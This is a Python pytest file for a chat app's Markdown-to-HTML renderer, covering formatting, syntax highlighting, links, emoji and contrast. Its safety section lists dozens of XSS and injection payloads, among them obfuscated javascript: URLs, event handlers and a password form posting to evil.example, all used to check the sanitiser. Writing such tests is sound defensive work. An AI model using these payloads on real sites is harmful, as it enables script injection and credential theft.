import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pygments.lexers import get_lexer_by_name

from chat import markup

REL = 'rel="noopener noreferrer nofollow ugc"'
PRE = '<pre class="code" tabindex="0" role="group" aria-label="Code">'


def rendered(body):
    return markup.render(body).strip()


def link(address, words):
    target = ' target="_blank"' if address.startswith('http') else ''
    return f'<a href="{address}" {REL}{target}>{words}</a>'


# What people know from GitHub


@pytest.mark.parametrize(
    ('body', 'html'),
    [
        ('Hello **you** _and_ ~~me~~', '<p>Hello <strong>you</strong> <em>and</em> <s>me</s></p>'),
        ('one\ntwo', '<p>one<br>\ntwo</p>'),
        ('one\n\ntwo', '<p>one</p>\n<p>two</p>'),
        ('`a < b`', '<p><code>a &lt; b</code></p>'),
        ('> said', '<blockquote>\n<p>said</p>\n</blockquote>'),
        ('- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'),
        ('3. a\n4. b', '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ('- [ ] a\n- [x] b', '<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>'),
        ('a\n\n---', '<p>a</p>\n<hr>'),
        ('# Big', '<p class="heading">Big</p>'),
        ('Big\n===', '<p class="heading">Big</p>'),
        ('<b>x</b> & y', '<p>&lt;b&gt;x&lt;/b&gt; &amp; y</p>'),
        ('"straight" -- ...', '<p>"straight" -- ...</p>'),
        ('    indented', f'{PRE}<code>indented\n</code></pre>'),
        ('', ''),
    ],
)
def test_markdown_becomes(body, html):
    assert rendered(body) == html


def test_a_table_scrolls_by_keyboard_and_is_aligned_by_classes():
    assert rendered('a | b\n---|--:\n1 | *2*').replace('\n', '') == (
        '<div class="table-scroll" tabindex="0" role="group" aria-label="Table"><table>'
        '<thead><tr><th>a</th><th class="align-right">b</th></tr></thead>'
        '<tbody><tr><td>1</td><td class="align-right"><em>2</em></td></tr></tbody></table></div>'
    )


# Code


def test_fenced_code_is_colored_by_classes():
    html = rendered('```python\ndef f(): return "<a>"\n```')
    assert html.startswith(f'{PRE}<code class="language-python"><span class="k">def</span>')
    assert '<span class="s2">"&lt;a&gt;"</span>' in html


@pytest.mark.parametrize('info', ['py', 'Python', 'python title="x.py"', '{.python}', 'python3'])
def test_a_language_has_several_names(info):
    assert '<code class="language-python">' in rendered(f'```{info}\nx = 1\n```')


@pytest.mark.parametrize('info', ['', 'klingon', '"><script>', 'language-python', '../python'])
def test_code_in_an_unknown_language_stays_plain(info):
    assert rendered(f'```{info}\na < b\n```') == f'{PRE}<code>a &lt; b\n</code></pre>'


@pytest.mark.parametrize(
    'code', ['x = 1\n' * 1000, 'x = "' + 'a' * 500 + '"\n', 'x =' + ' ' * 90 + '1\n'], ids=['long', 'wide', 'blank']
)
def test_code_that_takes_long_to_color_stays_plain(code):
    assert '<span' not in rendered(f'```py\n{code}```')


def test_all_blocks_of_a_message_share_the_limit():
    block = '```py\n' + 'x = 1\n' * 400 + '```\n\n'
    assert rendered(block * 3).count('class="language-python"') == 2


def test_when_the_time_is_up_the_rest_of_the_code_is_there_without_colors(monkeypatch):
    monkeypatch.setattr(markup, 'HIGHLIGHTING_TIME', -1)
    assert 'x = 1 &lt; 2\ny = 3\n</code>' in rendered('```py\nx = 1 < 2\ny = 3\n```')


@pytest.mark.slow
@pytest.mark.parametrize('language', sorted(markup.LANGUAGES))
def test_every_language_is_known_and_loses_no_character(language):
    get_lexer_by_name(language)
    code = '\n\n  a = "b" <c> & $x; // d\n\t# e\n\n>>> f(1)\n$ ls | é 🎉\n\n'
    shown = re.sub(r'<[^>]*>', '', markup.render(f'```{language}\n{code}```'))
    assert shown.replace('&lt;', '<').replace('&gt;', '>').replace('&amp;', '&').strip() == code.strip()


def test_every_other_name_of_a_language_leads_to_one():
    assert set(markup._OTHER_NAMES.values()) <= markup.LANGUAGES


# Links


@pytest.mark.parametrize(
    ('body', 'html'),
    [
        ('[docs](https://x.org/a?b=1&c)', link('https://x.org/a?b=1&amp;c', 'docs')),
        ('[docs](https://x.org "title")', link('https://x.org', 'docs')),
        ('https://x.org/a_b_c', link('https://x.org/a_b_c', 'https://x.org/a_b_c')),
        ('<https://x.org>', link('https://x.org', 'https://x.org')),
        ('www.python.org/a', link('http://www.python.org/a', 'www.python.org/a')),
        ('ada@example.org', link('mailto:ada@example.org', 'ada@example.org')),
        ('[Lobby](/rooms/lobby)', link('/rooms/lobby', 'Lobby')),
        ('[会](/rooms/設計)', link('/rooms/%E8%A8%AD%E8%A8%88', '会')),
        ('[](https://x.org)', link('https://x.org', 'https://x.org')),
        ('[a][1]\n\n[1]: https://x.org', link('https://x.org', 'a')),
        ('run main.py or setup.sh', 'run main.py or setup.sh'),
        ('mail.example.com', 'mail.example.com'),
        ('[a](ftp://x.org)', '[a](ftp://x.org)'),
        ('[a](rooms/lobby)', '[a](rooms/lobby)'),
        ('[a](//evil.example)', '[a](//evil.example)'),
        ('[a](/\\evil.example)', link('/%5Cevil.example', 'a')),
        ('[a](#top)', '[a](#top)'),
        ('[a]() ![b]()', 'a b'),
        ('[a](https://)', '[a](https://)'),
        ('[a](http://1.2.3.999/)', '[a](http://1.2.3.999/)'),
    ],
)
def test_a_link_is(body, html):
    assert rendered(body) == f'<p>{html}</p>'


@pytest.mark.parametrize(
    ('body', 'html'),
    [
        ('![cat](https://x.org/c.png)', link('https://x.org/c.png', 'cat')),
        ('![](https://x.org/c.png)', link('https://x.org/c.png', 'https://x.org/c.png')),
        ('![a **b** ![c](/d)](/e)', link('/e', 'a b c')),
        ('[![cat](https://x.org/c.png)](/rooms/a)', link('/rooms/a', 'cat')),
        ('![x](javascript:alert(1))', '![x](javascript:alert(1))'),
        ('![x](data:image/png;base64,AAAA)', '![x](data:image/png;base64,AAAA)'),
    ],
)
def test_an_image_is_a_link(body, html):
    assert rendered(body) == f'<p>{html}</p>'


# Emoji


@pytest.mark.parametrize(
    ('body', 'html'),
    [
        (':tada: :+1::white_check_mark:', '🎉 👍✅'),
        ('**:tada:** すごい:tada:', '<strong>🎉</strong> すごい🎉'),
        ('`:tada:`', '<code>:tada:</code>'),
        ('https://x.org/:tada:', link('https://x.org/:tada:', 'https://x.org/:tada:')),
        ('[:tada:](https://x.org/:tada:)', link('https://x.org/:tada:', '🎉')),
        ('\\:tada:', ':tada:'),
        ('10:30:45 1:100:2 a:tada:b :no-such-thing:', '10:30:45 1:100:2 a:tada:b :no-such-thing:'),
    ],
)
def test_a_shortcode_becomes_an_emoji_in_text_only(body, html):
    assert rendered(body) == f'<p>{html}</p>'


def test_a_shortcode_in_fenced_code_stays():
    assert ':tada:' in rendered('```\n:tada:\n```')


@pytest.mark.parametrize('body', ['🎉', ':tada:', '👩‍💻 🏳️‍🌈', '❤️', '🇩🇪🇫🇷🇯🇵', ' 👍🏽\n'])
def test_one_to_three_emoji_are_shown_larger(body):
    assert markup.is_only_emoji(body)


@pytest.mark.parametrize('body', ['', ' ', '🎉🎉🎉🎉', '🎉 yes', '`🎉`', ':no-such-thing:', '1', '- 🎉', '🎉' * 5000])
def test_other_messages_are_not(body):
    assert not markup.is_only_emoji(body)


# Safety

ATTACKS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<form action=//evil.example><input name=password></form>',
    '<div id="app" style="position:fixed;inset:0">overlay</div>',
    '<p data-x="1" class="q-dialog">x</p>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<input autofocus onfocus=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?php echo 1 ?><img src=x onerror=alert(1)>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x]( javascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java&Tab;script:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](\x01javascript:alert(1))',
    '[x](&#1;javascript:alert(1))',
    '[x](\u00a0javascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://x.org/1)',
    '[x](view-source:javascript:alert(1))',
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '[x](\\\\evil.example)',
    '[x](/&#9;/evil.example)',
    '<javascript:alert(1)>',
    '<javascript&colon;alert(1)>',
    '[x][y]\n\n[y]: javascript:alert(1)',
    '[x](https://x.org"onmouseover="alert(1))',
    '[x](<https://x.org" onmouseover="alert(1)>)',
    "[x](https://x.org '\"><script>alert(1)</script>')",
    '[<img src=x onerror=alert(1)>](https://x.org)',
    '![x"onerror="alert(1)](https://x.org/a.png)',
    '![x](https://x.org/a.png"onerror="alert(1))',
    '![<script>alert(1)</script>](javascript:alert(1))',
    'https://x.org/"onmouseover="alert(1)',
    "https://x.org/'><script>alert(1)</script>",
    'www.x.org/<script>alert(1)</script>',
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onclick="alert(1)\nx\n```',
    '```html\n</code></pre><script>alert(1)</script>\n```',
    '`</code><script>alert(1)</script>`',
    '    </code></pre><script>alert(1)</script>',
    '# <script>alert(1)</script>',
    'a | b\n-|-\n<script>alert(1)</script> | [x](javascript:alert(1))',
    '> <script>\n> alert(1)\n> </script>',
    '- <img src=x\n- onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\\<script>alert(1)\\</script>',
    ':<script>alert(1)</script>:',
    '<scr\x00ipt>alert(1)</scr\x00ipt>',
    '{{ constructor.constructor("alert(1)")() }}',
]
ATTRIBUTES = {
    'a': {'href', 'rel', 'target'},
    'code': {'class'},
    'div': {'class', 'tabindex', 'role', 'aria-label'},
    'ol': {'start'},
    'p': {'class'},
    'pre': {'class', 'tabindex', 'role', 'aria-label'},
    'span': {'class'},
    'td': {'class'},
    'th': {'class'},
}
CLASSES = set().union(*markup.CLASSES.values())


class Inspector(HTMLParser):
    """Reads HTML with another parser than the one that cleaned it, and says what must not be there."""

    def __init__(self):
        super().__init__()
        self.open = []

    def handle_starttag(self, tag, attrs):
        assert tag in markup.TAGS
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names))
        assert set(names) <= ATTRIBUTES.get(tag, set())
        values = dict(attrs)
        assert set((values.get('class') or '').split()) <= CLASSES
        if tag == 'a':
            assert re.match(r'https?://[^/]|mailto:|/(?![/\\])', values['href'], re.IGNORECASE)
            assert not set(values['href']) & set('\\\t\n\r\x00 "<>')
            assert values['rel'] == 'noopener noreferrer nofollow ugc'
            assert ('target' in values) == values['href'].lower().startswith('http')
            assert 'a' not in self.open
        if tag not in {'br', 'hr'}:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        raise AssertionError(f'<{tag}/>')

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError(f'a comment: {data}')

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.open


@pytest.mark.parametrize('attack', ATTACKS)
def test_an_attack_leaves_nothing_that_runs_loads_or_leads_astray(attack):
    for body in (attack, f'a {attack} b', f'> {attack}', f'**{attack}**', f'```\n{attack}\n```'):
        inspect(markup.render(body))


def test_the_inspector_sees_what_is_not_allowed():
    for html in ('<script>', '<a href="javascript:x">', '<p id="x">', '<span class="q-dialog">', '<b>', '<!-- -->'):
        with pytest.raises((AssertionError, KeyError)):
            inspect(html)


def test_what_markdown_lets_through_by_mistake_is_dropped_by_the_last_word():
    bad = '<script>x</script><p id="a" style="b" class="c heading" onclick="d">e<a href="//f" target="g">h</a></p>'
    assert markup._cleaner().clean(bad) == '<p class="heading">e<a>h</a></p>'


PIECES = st.sampled_from(
    [*'*_`~[]()!<>#-+|:&\\"\'/ \n\t', '\n\n', '```', '```py\n', '    ', '> ', '- ', '1. ', '|-|-|\n', '](', 'http://',
     'www.', 'a.b', '@', 'javascript:', 'data:', '//', '&#x', '&colon;', '<a ', '</', '<!--', ':tada:', '🎉', 'é', '日',
     'a', '1', '\ud800', '\x00', '\u202e', '[a]: ', '---', '===']
)  # fmt: skip


@given(st.one_of(st.text(), st.text(st.characters()), st.lists(PIECES, max_size=60).map(''.join)))
@example('\ud800')
@example('[\ud800](http://\ud800)')
def test_whatever_is_written_the_html_is_safe(body):
    inspect(markup.render(body))
    markup.plain(body)
    markup.is_only_emoji(body)


# Size


def filled(piece, length=10_000):
    return (piece * length)[:length]


PIECES_OF_FLOODS = [
    '[', '](', '[a](', '![', '*', '**a *b ', '_*`[', '`', '``a', '~~a ', '>', '> ', '- ', '* * ', '1. ', '|', '|a',
    '\n', '&#0;', '<', '<a ', '<!--', 'http://', '://', 'http://[', 'https://a.b/(', 'www.', 'www.a.b.', 'mailto:a',
    'a@', 'a@b.c ', ':a:', ':tada:', '🎉', '[a](/)', '[a]: /b\n\n', '\\', '# a\n', '```\n', '```py\na\n```\n',
    '    a\n', '  - a\n', '[x](<',
]  # fmt: skip
HOSTILE = {repr(piece): filled(piece) for piece in PIECES_OF_FLOODS} | {
    'nested brackets': '[' * 4000 + ']' * 4000,
    'nested links': '[a](' * 2000 + ')' * 2000,
    'nested emphasis': '*a ' * 1600 + ' b*' * 1600,
    'nested quotes and lists': ''.join('> ' * depth + '- a\n' for depth in range(90)),
    'growing backticks': ''.join('`' * length + ' ' for length in range(1, 140)),
    'a wide table': filled('a|', 4900) + '\n' + filled('-|', 5000),
    'a table of empty cells': '|'.join('a' * 50) + '\n' + '|'.join('-' * 50) + '\n' + 'a\n' * 4900,
    'slow C': '```c\n' + 'a \n' * 1660 + '```',
    'slow TypeScript': '```ts\n' + filled('a.', 4990) + '\n```',
}


@pytest.mark.slow
@pytest.mark.parametrize('name', HOSTILE)
def test_hostile_text_is_rendered_at_a_size_that_a_page_can_bear(name):
    html = markup.render(HOSTILE[name])
    inspect(html)
    assert len(html) < 200_000
    markup.plain(HOSTILE[name])
    markup.is_only_emoji(HOSTILE[name])


def test_what_is_too_much_is_shown_as_it_was_typed():
    body = HOSTILE['nested emphasis']
    assert rendered(body) == f'<p>{body}</p>'
    assert rendered('**a\n' + body).startswith('<p>**a<br>\n*a *a')


def test_a_large_honest_table_is_a_table():
    assert rendered('a | b | c\n-|-|-\n' + '1 | 2 | 3\n' * 300).count('<tr>') == 301


# Colors


@pytest.mark.parametrize(
    ('css', 'background'), [*zip(markup.pygments_css(), [markup.LIGHT_CODE, markup.DARK_CODE], strict=True)]
)
def test_all_code_can_be_read_on_its_background(css, background):
    colors = re.findall(r'color: (#[0-9a-f]{6})', css)
    assert len(colors) > 5
    assert min(markup.contrast(color, background) for color in colors) >= 4.5
    assert 'background' not in css


def test_colors_for_code_stay_below_their_selector():
    light, dark = markup.pygments_css('.code', '.night .code')
    assert all(part.strip().startswith('.code .') for line in light.splitlines() for part in line[:-1].split(','))
    assert all(part.strip().startswith('.night .code .') for line in dark.splitlines() for part in line.split(','))


def test_contrast_is_that_of_wcag():
    assert markup.contrast('#000000', '#ffffff') == pytest.approx(21)
    assert markup.contrast('#777777', '#ffffff') == pytest.approx(4.48, abs=0.01)
    assert markup.readable('#123456', '#ffffff') == '#123456'
    assert markup.contrast(markup.readable('#ffff00', '#ffffff'), '#ffffff') == pytest.approx(4.5, abs=0.2)


# Most messages are words, and take a shorter way to the same end.


@pytest.mark.slow
@given(st.text('aÄж漢ａ1 .,;!?\'"()-:@w👍🏽☕✨\u200d\ufe0f', max_size=12))
@example('www. example')
@example('see www.example.org (it is good)')
@example('ada@example.org')
@example('a.')
@example('A. first')
@example('Don\'t wait -- it\'s "done".')
@example('x' * 20_000)
@settings(max_examples=1000)
def test_words_alone_look_as_they_do_by_the_long_way(body):
    assert markup.render(body) == markup._marked(body)[0]
